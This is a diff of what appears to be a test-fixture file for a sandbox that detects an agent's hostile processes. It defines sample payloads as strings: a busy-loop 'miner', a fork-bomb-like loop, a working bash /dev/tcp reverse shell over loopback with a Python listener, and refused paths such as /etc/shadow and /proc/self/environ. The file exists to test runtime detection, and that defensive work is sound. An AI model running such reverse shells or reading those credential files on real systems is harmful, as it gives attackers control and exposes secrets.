@@ -42,9 +42,17 @@ MINER = "sh -c 'while :; do :; done'"
 FORK_BOMB = "sh -c 'while :; do sleep 60 & done'"
 # The agent's own code starts the shell, out of the validator's sight: runtime detection
 # reads the process's argv. It never connects (no network); the argv is the evidence.
+# A real reverse shell over loopback inside the sandbox: the agent listens, and a bash wired
+# to /dev/tcp connects to it. The kernel sees bash start with a socket on its stdin/stdout.
+# (Port 4445: 4444 is 0x115C, whose 0x5c byte the kernel source cannot parse yet.)
 REVERSE_SHELL_PY = (
-    "import subprocess, time\n"
-    "subprocess.Popen(['bash', '-c', 'sleep 60; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'])\n"
+    "import socket, subprocess, time\n"
+    "srv = socket.socket()\n"
+    "srv.bind(('127.0.0.1', 4445))\n"
+    "srv.listen(1)\n"
+    "subprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4445 0>&1'])\n"
+    "conn, _ = srv.accept()\n"
+    "conn.sendall(b'id\\n')\n"
     "time.sleep(60)\n"
 )
 REFUSED_PATHS = ("../../etc/passwd", "/etc/shadow", "/work/notes.exe", "/proc/self/environ")
